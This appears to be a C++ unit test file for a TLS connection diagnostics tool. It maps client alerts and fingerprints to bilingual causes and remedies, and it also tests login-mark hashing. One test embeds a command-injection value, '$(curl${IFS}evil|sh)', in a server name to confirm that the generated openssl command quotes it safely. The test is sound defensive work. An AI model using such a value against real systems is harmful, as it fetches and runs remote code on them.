#include "contact/cause.h"

#include <doctest/doctest.h>

#include <array>
#include <numeric>

#include "contact/alert.h"
#include "contact/client_kind.h"

using namespace pforte::contact;
namespace net = pforte::net;

namespace {

constexpr std::string_view kChromium = "t13d1517h2_8daaf6152771_cb7bf5808d99";
constexpr std::string_view kJava = "t13i371100_db35923f8641_7c76daad20ec";
constexpr std::string_view kCurl = "t13d3112h2_e8f1e7e78f70_b26ce05bbdd6";
constexpr std::string_view kNode = "t13d591000_a33745022dd6_1f22a2ca17c4";
constexpr std::string_view kFirefox = "t13d1617h2_86a278354501_3cbfd9057e0d";

Contact refused_by(int alert, std::string_view fingerprint = {}) {
  return {.ending = Ending::ClientAlert,
          .point = Point::Answered,
          .client_alert = std::int16_t(alert),
          .server_name = "crm.example.com",
          .fingerprint = std::string(fingerprint)};
}

void is_told(const Contact& contact) {
  Cause cause = cause_of(contact);
  REQUIRE(!cause.id.empty());
  REQUIRE(!cause.what.en.empty());
  REQUIRE(cause.what.en != cause.what.de);
  REQUIRE(cause.remedy.en.empty() == cause.remedy.de.empty());
  REQUIRE(cause.remedy.en.empty() == !cause.is_fault);
}

}  // namespace

TEST_CASE("the same alert means one thing from one client and another from the next") {
  struct Row {
    int alert;
    std::string_view fingerprint, id;
  };
  const Row rows[] = {
      {48, kCurl, "certificate-untrusted"},
      {48, {}, "certificate-untrusted"},
      {45, kCurl, "certificate-expired"},
      {42, kJava, "certificate-expired"},
      {42, kFirefox, "certificate-refused"},
      {46, kChromium, "certificate-refused"},
      {46, kJava, "certificate-refused"},
      {44, {}, "certificate-revoked"},
      {70, kNode, "no-common-version"},
      {40, {}, "no-common-cipher"},
      {90, {}, "user-cancelled"},
      {51, {}, "client-alert"},
      {200, {}, "client-alert"},
      {0, {}, "client-alert"},
  };
  for (const Row& row : rows) {
    CAPTURE(row.alert);
    CAPTURE(row.fingerprint);
    CHECK(cause_of(refused_by(row.alert, row.fingerprint)).id == row.id);
  }
}

TEST_CASE("every ending has a cause in both languages, and every fault a remedy, whatever the alert") {
  for (int ending = 1; ending <= int(Ending::Lost); ++ending) {
    for (int point = 1; point <= int(Point::Shaken); ++point) {
      for (int alert = -1; alert < 256; ++alert) {
        Contact contact = refused_by(alert);
        contact.ending = Ending(ending);
        contact.point = Point(point);
        contact.our_alert = std::int16_t(alert);
        CAPTURE(ending);
        CAPTURE(alert);
        is_told(contact);
      }
    }
  }
}

TEST_CASE("and so it is whatever kind of client it was") {
  for (std::string_view fingerprint : {kChromium, kJava, kCurl, kNode, kFirefox}) {
    for (int alert = -1; alert < 256; ++alert) is_told(refused_by(alert, fingerprint));
  }
}

TEST_CASE("what a client has sent as a name runs nothing where the command is pasted") {
  Contact contact = refused_by(48);
  contact.server_name = "$(curl${IFS}evil|sh)'.example.com";
  contact.listener = net::parse_address("192.0.2.1:443").value();
  CHECK(cause_of(contact).command ==
        "openssl s_client -connect '$(curl${IFS}evil|sh)'\\''.example.com:443' -servername "
        "'$(curl${IFS}evil|sh)'\\''.example.com' -showcerts </dev/null");
}

TEST_CASE("clients are known by the ciphers that they offer") {
  CHECK(kind_of_client(kChromium) == ClientKind::Chromium);
  CHECK(kind_of_client("t13d1516h2_8daaf6152771_e5627efa2ab1") == ClientKind::Chromium);
  CHECK(kind_of_client("t13d2014h2_a09f3c656075_14788d8d241b") == ClientKind::Apple);
  CHECK(kind_of_client("t13d0000h2_000000000000_000000000000") == ClientKind::Unknown);
  CHECK(kind_of_client("") == ClientKind::Unknown);
}

TEST_CASE("an alert has its name from the standard") {
  CHECK(alert_text(48) == "unknown_ca (48)");
  CHECK(alert_text(200) == "alert 200");
}

TEST_CASE("a sign-in that was refused last is a failure, and one that was mistyped first is not") {
  Contact contact = {.ending = Ending::Served, .requests = 2};
  contact.sign_ins = {{.code = "sign-in.denied"}, {.succeeded = true}};
  CHECK(!is_failure(contact));
  contact.sign_ins.push_back({.code = "sign-in.denied"});
  CHECK(is_failure(contact));
}

TEST_CASE("a mark finds a login again, in any case, and tells less than six bits of it") {
  CHECK(mark_of("Anna") == mark_of("anna"));
  CHECK(mark_of("anna") != mark_of("bert"));
  std::array<int, 256> counts{};
  for (std::uint32_t i = 0; i < 63'000; ++i) ++counts[mark_of(std::to_string(i))];
  CHECK(counts[0] == 0);
  // Whoever tries passwords finds each mark about as often as any other.
  for (unsigned mark = 1; mark <= kMarks; ++mark) {
    CAPTURE(mark);
    CHECK(counts[mark] > 800);
    CHECK(counts[mark] < 1200);
  }
  CHECK(std::accumulate(counts.begin(), counts.begin() + kMarks + 1, 0) == 63'000);
}
